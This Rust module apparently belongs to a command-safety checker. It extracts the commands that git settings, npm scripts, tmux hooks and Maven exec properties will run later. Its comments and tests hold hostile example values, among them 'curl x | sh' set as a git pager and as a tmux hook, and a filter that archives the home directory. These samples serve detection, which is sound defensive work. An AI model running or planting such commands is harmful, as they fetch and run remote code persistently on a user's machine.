//! Commands stored now and run later by another program: git's
//! command-valued settings (`core.pager`, `core.sshCommand`, `!` aliases,
//! filter and diff drivers, credential helpers), npm package scripts,
//! tmux hooks and key bindings, Maven's exec plugin. Whatever such a
//! setting will run is judged as if it ran now: `git config core.pager
//! 'curl …| sh'` downloads and runs code on the next `git log`.

/// Whether the git setting `key` (lower-case) holds a command to run.
fn git_command_key(key: &str, value: &str) -> bool {
    let shell_helper = value.starts_with('!') || value.starts_with('/');
    match key {
        "core.pager"
        | "core.editor"
        | "core.sshcommand"
        | "core.fsmonitor"
        | "core.askpass"
        | "sequence.editor"
        | "diff.external"
        | "gpg.program"
        | "uploadpack.packobjectshook"
        | "sendemail.sendmailcmd"
        | "sendemail.tocmd"
        | "sendemail.cccmd" => true,
        _ if key.starts_with("pager.") || key.starts_with("man.") && key.ends_with(".cmd") => true,
        _ if key.starts_with("alias.") => value.starts_with('!'),
        _ if key.starts_with("credential.") && key.ends_with("helper") => shell_helper,
        _ => {
            let last = key.rsplit('.').next().unwrap_or("");
            let section = key.split('.').next().unwrap_or("");
            matches!(
                (section, last),
                ("filter", "clean" | "smudge" | "process")
                    | ("diff", "textconv" | "command")
                    | ("merge", "driver")
                    | ("gpg", "program")
                    | ("mergetool" | "difftool", "cmd")
            )
        }
    }
}

/// The command a git setting will run, without the `!` that marks a shell
/// command in aliases and helpers.
fn git_setting(key: &str, value: &str, out: &mut Vec<String>) {
    let key = key.to_ascii_lowercase();
    if git_command_key(&key, value) && !value.trim().is_empty() {
        out.push(value.trim().trim_start_matches('!').to_string());
    }
}

/// Commands in `git -c key=value …` and `git config [set] key value`.
pub fn git(args: &[String]) -> Vec<String> {
    let mut out = Vec::new();
    let mut i = 0;
    while i < args.len() {
        let a = args[i].as_str();
        if a == "-c" {
            if let Some((k, v)) = args.get(i + 1).and_then(|kv| kv.split_once('=')) {
                git_setting(k, v, &mut out);
            }
            i += 2;
            continue;
        }
        if a == "config" {
            let operands: Vec<&String> = args[i + 1..]
                .iter()
                .scan(false, |skip, x| {
                    let keep = !*skip && !x.starts_with('-');
                    *skip = matches!(x.as_str(), "-f" | "--file" | "--blob" | "--type");
                    Some((keep, x))
                })
                .filter_map(|(keep, x)| keep.then_some(x))
                .collect();
            let operands = match operands.first().map(|s| s.as_str()) {
                Some("set" | "add") => &operands[1..],
                _ => &operands[..],
            };
            if let [key, value, ..] = operands {
                git_setting(key, value, &mut out);
            }
            break;
        }
        if !a.starts_with('-') {
            break;
        }
        i += 1;
    }
    out
}

/// `npm pkg set scripts.postinstall="…"`, `npm set-script build "…"`: npm
/// runs package scripts with a shell.
pub fn npm(args: &[String]) -> Vec<String> {
    let mut out = Vec::new();
    match (
        args.first().map(String::as_str),
        args.get(1).map(String::as_str),
    ) {
        (Some("pkg"), Some("set")) => {
            for a in &args[2..] {
                if let Some((k, v)) = a.split_once('=') {
                    if k.starts_with("scripts.") {
                        out.push(v.to_string());
                    }
                }
            }
        }
        (Some("set-script"), Some(_)) => out.extend(args.get(2).cloned()),
        _ => {}
    }
    out
}

/// `tmux set-hook -g session-created 'run-shell "…"'`, `tmux bind x
/// run-shell "…"`, `tmux run-shell "…"`: tmux runs these with a shell
/// (new sessions and `send-keys` are in [`super::runners`]).
pub fn tmux(args: &[String]) -> Vec<String> {
    let mut out = Vec::new();
    for (i, a) in args.iter().enumerate() {
        match a.as_str() {
            "run-shell" | "run" | "if-shell" | "if" | "pipe-pane" | "pipep" => {
                if let Some(cmd) = args[i + 1..].iter().find(|x| !x.starts_with('-')) {
                    out.push(cmd.clone());
                }
            }
            _ => {
                // A hook or binding given as one string: `'run-shell "…"'`.
                for prefix in ["run-shell ", "run ", "if-shell "] {
                    if let Some(rest) = a.trim().strip_prefix(prefix) {
                        out.push(rest.trim().trim_matches(['"', '\'']).to_string());
                    }
                }
            }
        }
    }
    out
}

/// `mvn exec:exec -Dexec.executable=sh -Dexec.args="-c '…'"`.
pub fn maven(args: &[String]) -> Vec<String> {
    let prop = |name: &str| {
        args.iter()
            .find_map(|a| a.strip_prefix("-D").and_then(|p| p.strip_prefix(name)))
            .and_then(|v| v.strip_prefix('='))
    };
    match prop("exec.executable") {
        Some(program) => vec![format!("{program} {}", prop("exec.args").unwrap_or(""))],
        None => Vec::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(s: &[&str]) -> Vec<String> {
        s.iter().map(|w| w.to_string()).collect()
    }

    #[test]
    fn git_settings_that_run_commands() {
        assert_eq!(
            git(&words(&["config", "--global", "core.pager", "curl x | sh"])),
            ["curl x | sh"]
        );
        assert_eq!(
            git(&words(&[
                "config",
                "--global",
                "alias.st",
                "!f(){ id; }; f"
            ])),
            ["f(){ id; }; f"]
        );
        assert_eq!(
            git(&words(&["config", "filter.x.clean", "tar cz ~"])),
            ["tar cz ~"]
        );
        assert_eq!(
            git(&words(&["config", "set", "core.sshCommand", "ssh -i k"])),
            ["ssh -i k"]
        );
        assert_eq!(git(&words(&["-c", "core.pager=id", "log"])), ["id"]);
        // Settings that are not commands, and helpers named by program.
        assert!(git(&words(&["config", "user.name", "Ada"])).is_empty());
        assert!(git(&words(&["config", "alias.co", "checkout"])).is_empty());
        assert!(git(&words(&["config", "credential.helper", "store"])).is_empty());
        assert!(git(&words(&["config", "--get", "core.pager"])).is_empty());
        assert!(git(&words(&["log", "--oneline"])).is_empty());
    }

    #[test]
    fn npm_tmux_and_maven_commands() {
        assert_eq!(
            npm(&words(&["pkg", "set", "scripts.postinstall=node x.js"])),
            ["node x.js"]
        );
        assert!(npm(&words(&["pkg", "set", "version=1.2.0"])).is_empty());
        assert_eq!(
            tmux(&words(&[
                "set-hook",
                "-g",
                "session-created",
                "run-shell \"curl x | sh\""
            ])),
            ["curl x | sh"]
        );
        assert_eq!(
            tmux(&words(&["run-shell", "-b", "make test"])),
            ["make test"]
        );
        assert!(tmux(&words(&["new", "-s", "work"])).is_empty());

        assert_eq!(
            maven(&words(&[
                "exec:exec",
                "-Dexec.executable=sh",
                "-Dexec.args=-c id"
            ])),
            ["sh -c id"]
        );
        assert!(maven(&words(&["test", "-DskipTests"])).is_empty());
    }
}
